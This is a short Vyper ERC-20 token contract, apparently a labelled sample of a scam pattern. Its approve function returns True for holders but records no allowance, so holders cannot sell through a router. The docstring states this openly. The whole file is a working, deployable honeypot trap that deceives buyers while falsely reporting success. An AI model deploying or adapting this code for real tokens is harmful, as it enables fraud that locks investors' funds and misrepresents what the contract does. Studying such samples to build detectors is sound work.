# pragma version 0.4.3
# pragma evm-version cancun
"""
@title An approval that does nothing
@notice A holder's approve answers True and records nothing, so that no router
        can ever take the tokens to sell them.
"""

from ..tokens.lib import erc20
from ..tokens.lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.transfer,
    erc20.transferFrom,
    owned.owner,
)


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()


@external
def approve(spender: address, amount: uint256) -> bool:
    if not owned._is_holder(msg.sender):
        erc20._approve(msg.sender, spender, amount)
    return True
